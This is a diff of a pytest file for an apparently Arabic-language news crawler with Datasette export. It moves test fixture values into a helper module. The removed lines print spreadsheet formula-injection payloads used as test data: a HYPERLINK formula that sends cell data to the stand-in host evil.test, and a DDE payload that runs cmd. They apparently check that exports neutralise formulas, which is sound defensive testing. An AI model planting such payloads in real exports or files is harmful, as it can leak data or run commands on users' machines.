@@ -13,30 +13,14 @@ from pathlib import Path
 
 import pytest
 
-from tests.support import fault_server as fs
-from tests.support.crawl import crawl
 from tests.support.databases import rows
 from tests.support.datasette_app import get, project_datasette
-
-TITLE = '=HYPERLINK("http://evil.test/?"&A1,"خبر عاجل")'
-AUTHOR = "@SUM(A+B)*cmd|' /C calc'!A"
-SECTION = "+محليات"
-HEAD = (
-    f'<meta name="author" content="{AUTHOR}">'
-    f'<meta property="article:section" content="{SECTION}">'
-    '<meta name="keywords" content="-2+3, =1+1, وسم عادي">'
-)
+from tests.support.formulas import AUTHOR, SECTION, TITLE, crawl_formula_page
 
 
 @pytest.fixture(scope="module")
 def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    db = tmp_path_factory.mktemp("formulas") / "news.db"
-    site = fs.Site()
-    html = fs.article_html("formula", title=TITLE).replace("<title>", HEAD + "<title>")
-    site.add("/a/formula.html", fs.page(html))
-    with fs.run(site.build()) as server:
-        crawl("-a", f"url={server.url}", db=db)
-    return db
+    return crawl_formula_page(tmp_path_factory.mktemp("formulas") / "news.db")
 
 
 @pytest.fixture(scope="module")
